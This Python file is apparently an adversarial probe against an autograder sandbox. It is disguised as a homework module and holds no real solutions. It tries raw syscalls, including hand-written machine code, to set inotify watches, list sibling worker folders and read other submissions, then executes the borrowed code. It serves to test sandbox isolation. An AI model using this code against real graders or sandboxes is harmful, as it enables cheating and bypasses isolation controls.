"""probe_a case cc_inotify_reader (collusion, native): hw2_compgraph compgraph.py.

Reader puts an inotify watch (raw inotify_init1/inotify_add_watch) and a listdir on the parent of
its own folder to find sibling worker folders, then reads the writer's file or any sibling's
non-stub compgraph.py. seccomp kills on "what workers graded at the same time could use to reach
each other or to hide memory from memory_mb: System V shared memory, queues and semaphores, memfd,
inotify and fanotify watches, file locks (flock, fcntl locks), and scheduling or priority changes
to any process but itself"; listing outside is refused by the hook. The reader holds no correct
code (starter stubs), so it can only score with the writer's code: max_total 0. Its attempt is
refused, hence sandbox: "a worker killed by SIGSYS, a refusal by the kernel, a process left behind,
or a report pipe tampered with sets the row's status to sandbox ..., as does a refused attempt by
the student's own code".

This module holds NO correct code: every graded function answers only with code fetched from another submission (or the grader's files) through the channel.
"""

import numpy as np

# ---- probe_a prelude: attack bookkeeping, never raises ----
import os as _pa_os
import sys as _pa_sys
import time as _pa_time

_PA_CASE = 'cc_inotify_reader'
_PA_LOG = []
_PA_BREACHES = []
_PA_KEEP = []


def _pa_note(label, status, detail=""):
    try:
        _PA_LOG.append((round(_pa_time.monotonic(), 3), str(label), status, str(detail)[:300]))
    except BaseException:
        pass


def _pa_breach(what):
    """A step the documentation says is refused has succeeded."""
    _PA_BREACHES.append(str(what))
    _pa_note("BREACH", "breach", what)
    try:
        fh = open(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"), "a")
        try:
            fh.write("%s: %s\n" % (_PA_CASE, what))
        finally:
            fh.close()
    except BaseException:
        pass


def _pa_spoiled():
    if _PA_BREACHES:
        return True
    try:
        for _n, _m in list(_pa_sys.modules.items()):
            if _n.endswith(("calculus", "compgraph")) and getattr(_m, "_PA_BREACHES", None):
                return True
    except BaseException:
        pass
    try:
        return _pa_os.path.exists(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"))
    except BaseException:
        return False


def _pa_try(label, fn, *args, **kwargs):
    """Run one attack step; a refusal (any exception) is logged and swallowed."""
    try:
        r = fn(*args, **kwargs)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "refused", repr(e))
        return e
    _pa_note(label, "ok", repr(r)[:200])
    return r


def _pa_ok(r):
    return not isinstance(r, BaseException)


_PA_TMP_ROOTS = ("/tmp", "/var/tmp", "/dev/shm")


def _pa_safe_dir(p):
    """True only for folders strictly inside /tmp, /var/tmp or /dev/shm (grader-made
    temporary folders): the only places a destructive step is ever aimed at."""
    try:
        rp = _pa_os.path.realpath(p)
    except BaseException:
        return False
    for root in _PA_TMP_ROOTS:
        if rp.startswith(root + "/"):
            rest = rp[len(root) + 1:]
            first = rest.split("/")[0]
            if rest and not first.startswith(("probe_brief", "bash_jobs", ".X11", "systemd")):
                return True
    return False


def _pa_deadline(seconds):
    end = _pa_time.monotonic() + seconds
    return lambda: _pa_time.monotonic() < end

def _pa_read(path, n=1 << 16):
    with open(path, "rb") as fh:
        return fh.read(n)


def _pa_ppid_of(pid):
    s = _pa_read("/proc/%d/stat" % pid)
    return int(s[s.rindex(b")") + 2:].split()[1])


def _pa_ancestors():
    anc = {_pa_os.getppid()}
    pid = _pa_os.getpid()
    for _ in range(64):
        try:
            pid = _pa_ppid_of(pid)
        except BaseException:
            break
        if pid <= 1:
            break
        anc.add(pid)
    return anc


def _pa_proc_pids():
    return [int(n) for n in _pa_os.listdir("/proc") if n.isdigit()]


def _pa_sibling_workers():
    """Grader processes (cmdline contains "grader") whose parent is our parent or another
    grader process; never ourselves or an ancestor.  Raises if /proc cannot be listed."""
    me, ppid = _pa_os.getpid(), _pa_os.getppid()
    anc = _pa_ancestors()
    out = set()
    for pid in _pa_proc_pids():
        if pid == me or pid in anc or pid <= 1:
            continue
        try:
            if b"grader" not in _pa_read("/proc/%d/cmdline" % pid):
                continue
            pp = _pa_ppid_of(pid)
            if pp == ppid or (pp > 1 and b"grader" in _pa_read("/proc/%d/cmdline" % pp)):
                out.add(pid)
        except BaseException:
            continue
    return out


def _pa_is_grader(pid):
    try:
        return b"grader" in _pa_read("/proc/%d/cmdline" % pid)
    except BaseException:
        return False

_PA_SC = []


def _pa_s64(v):
    v = int(v) & 0xFFFFFFFFFFFFFFFF
    return v - (1 << 64) if v >> 63 else v


def _pa_sc():
    """A callable sc(nr, *args) -> raw result (negative errno on failure)."""
    if _PA_SC:
        if _PA_SC[0] is None:
            raise RuntimeError("probe_a: no native route")
        return _PA_SC[0]
    import ctypes

    def from_fn(fn, label, with_errno):
        fn.restype = ctypes.c_long

        def sc(nr, *args):
            r = fn(ctypes.c_long(_pa_s64(nr)), *[ctypes.c_long(_pa_s64(a)) for a in args])
            if r == -1 and with_errno:
                return -ctypes.get_errno()
            return r
        sc.route = label
        return sc

    # PyDLL / PYFUNCTYPE keep the GIL during the call, so a clone() child is never left
    # waiting for a GIL that some other thread held at the moment of the fork.
    for name in (None, "libc.so.6"):
        try:
            lib = ctypes.PyDLL(name, use_errno=True)
            sc = from_fn(lib.syscall, "PyDLL(%r).syscall" % (name,), True)
            _PA_SC.append(sc)
            _pa_note("native route", "ok", sc.route)
            return sc
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            _pa_note("native CDLL(%r)" % (name,), "refused", repr(e))
    try:
        sc = from_fn(ctypes.pythonapi.syscall, "pythonapi.syscall", False)
        _PA_SC.append(sc)
        _pa_note("native route", "ok", sc.route)
        return sc
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note("native pythonapi", "refused", repr(e))
    try:
        import mmap
        code = bytes.fromhex("4889f84889f74889d64889ca4d89c24d89c84c8b4c24080f05c3")
        buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        buf.write(code)
        cbuf = ctypes.c_char.from_buffer(buf)
        raw = ctypes.PYFUNCTYPE(ctypes.c_long, *([ctypes.c_long] * 7))(ctypes.addressof(cbuf))

        def sc(nr, *args):
            a = [_pa_s64(x) for x in args] + [0] * (6 - len(args))
            return raw(_pa_s64(nr), *a)
        sc.route = "machine code"
        sc.keep = (buf, cbuf, raw)
        _PA_SC.append(sc)
        _pa_note("native route", "ok", sc.route)
        return sc
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note("native machine code", "refused", repr(e))
    _PA_SC.append(None)
    raise RuntimeError("probe_a: no native route")


def _pa_scall(label, nr, *args, mode="kill"):
    """One raw syscall.  mode "kill": the docs say seccomp kills the worker on it, so
    returning at all is a breach; "success": only a result >= 0 is a breach; "none"."""
    try:
        sc = _pa_sc()
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "no native route", repr(e))
        return None
    try:
        r = sc(nr, *args)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "refused", repr(e))
        return None
    _pa_note(label, "returned", r)
    if mode == "kill":
        _pa_breach("%s returned %r (%s): the seccomp filter did not kill the worker" % (label, r, sc.route))
    elif mode == "success" and r is not None and r >= 0:
        _pa_breach("%s succeeded with %r (%s)" % (label, r, sc.route))
    return r


def _pa_cbuf(data_or_size):
    import ctypes
    if isinstance(data_or_size, int):
        b = ctypes.create_string_buffer(data_or_size)
    else:
        b = ctypes.create_string_buffer(bytes(data_or_size), len(data_or_size) + 1)
    _PA_KEEP.append(b)
    return b, ctypes.addressof(b)

_PA_MODULE = 'compgraph'
_PA_NAMES = ['forward', 'loss', 'backward', 'batch_gradients', 'sigmoid_output_grad_v']
_PA_GOT = {}
_PA_SPENT = [0.0]


def _pa_accept(blob):
    """blob: the writer's payload (base64 of zlib of a JSON {module: source}), or a dict
    {module: whole module source} found on disk; exec our module's part."""
    import base64
    import json
    import zlib
    if isinstance(blob, dict):
        d = blob
    else:
        if isinstance(blob, str):
            blob = blob.encode()
        d = json.loads(zlib.decompress(base64.b64decode(blob.strip())).decode())
    src = d.get(_PA_MODULE)
    if not src:
        return False
    if "raise NotImplementedError" in src or "_pa_call(" in src:
        return False
    ns = {"np": np, "__name__": "probe_a_borrowed_" + _PA_MODULE}
    exec(compile(src, "<probe_a borrowed %s>" % _PA_MODULE, "exec"), ns)
    if not all(callable(ns.get(n)) for n in _PA_NAMES):
        return False
    _PA_GOT.update((n, ns[n]) for n in _PA_NAMES)
    _pa_note("accept", "ok", "borrowed %d functions" % len(_PA_NAMES))
    return True


def _pa_poll(budget):
    """Poll the channel for up to `budget` seconds (order of grading is not guaranteed)."""
    t0 = _pa_time.monotonic()
    end = t0 + budget
    try:
        while True:
            try:
                blob = _pa_fetch_once()
            except KeyboardInterrupt:
                raise
            except BaseException as e:
                _pa_note("fetch", "refused", repr(e))
                blob = None
            if blob:
                try:
                    if _pa_accept(blob):
                        return True
                except KeyboardInterrupt:
                    raise
                except BaseException as e:
                    _pa_note("accept", "error", repr(e))
            if _pa_time.monotonic() >= end:
                return False
            _pa_time.sleep(0.1)
    finally:
        _PA_SPENT[0] += _pa_time.monotonic() - t0


def _pa_call(name, *args, **kwargs):
    if not _PA_GOT and _PA_SPENT[0] < 3.5:
        _pa_poll(min(0.5, 3.5 - _PA_SPENT[0]))
    f = _PA_GOT.get(name)
    if f is None:
        raise NotImplementedError("probe_a reader %s holds no code for %s and the channel gave nothing"
                                  % (_PA_CASE, name))
    return f(*args, **kwargs)


# ---- probe_a channel ----
_PA_INO = []
_PA_SEEN = set()


def _pa_inotify_setup():
    parent = _pa_os.path.dirname(_pa_os.path.realpath(_pa_os.getcwd()))
    fd = _pa_scall("inotify_init1", 294, 0o4000 | 0o2000000)
    if fd is None or fd < 0:
        return
    b, a = _pa_cbuf(parent.encode() + b"\0")
    wd = _pa_scall("inotify_add_watch(parent)", 254, fd, a, 0x100 | 0x80 | 0x8)
    if wd is not None and wd >= 0:
        _PA_INO.append(fd)


def _pa_inotify_names():
    import struct
    names = set()
    for fd in _PA_INO:
        try:
            buf = _pa_os.read(fd, 65536)
        except BaseException:
            continue
        i = 0
        while i + 16 <= len(buf):
            wd, mask, cookie, ln = struct.unpack_from("iIII", buf, i)
            names.add(buf[i + 16:i + 16 + ln].rstrip(b"\0").decode("utf-8", "replace"))
            i += 16 + ln
    return names


def _pa_fetch_once():
    own = _pa_os.path.realpath(_pa_os.getcwd())
    parent = _pa_os.path.dirname(own)
    names = _pa_inotify_names()
    listed = _pa_try("listdir parent", _pa_os.listdir, parent)
    if _pa_ok(listed):
        names.update(listed)
    _PA_SEEN.update(n for n in names if n)
    for n in sorted(_PA_SEEN):
        d = _pa_os.path.join(parent, n)
        if _pa_os.path.realpath(d) == own:
            continue
        data = _pa_try("read " + n, _pa_read, _pa_os.path.join(d, "probe_a_cc_ino.b64"), 1 << 20)
        if _pa_ok(data) and data:
            return data
        out = {}
        for m in ("compgraph", "calculus"):
            src = _pa_try("read %s/%s.py" % (n, m), _pa_read, _pa_os.path.join(d, m + ".py"), 1 << 20)
            if _pa_ok(src) and src and b"raise NotImplementedError" not in src and b"_pa_call(" not in src:
                out[m] = src.decode("utf-8", "replace")
        if len(out) == 2:
            return out
    return None


_pa_try("inotify setup", _pa_inotify_setup)


def sigmoid(z):
    """Logistic function 1 / (1 + exp(-z)), elementwise, without overflow. Given: use it."""
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def forward(x, W, v):
    """Forward pass for one example (reader stub: answers only with borrowed code)."""
    return _pa_call("forward", x, W, v)


def loss(y_hat, y):
    """Squared error (reader stub)."""
    return _pa_call("loss", y_hat, y)


def backward(y, cache):
    """Gradient of L (reader stub)."""
    return _pa_call("backward", y, cache)


def batch_gradients(X, Y, W, v):
    """Summed gradients (reader stub)."""
    return _pa_call("batch_gradients", X, Y, W, v)


def sigmoid_output_grad_v(X, Y, W, v):
    """dE/dv with a sigmoid output (reader stub)."""
    return _pa_call("sigmoid_output_grad_v", X, Y, W, v)


_pa_poll(2.5)
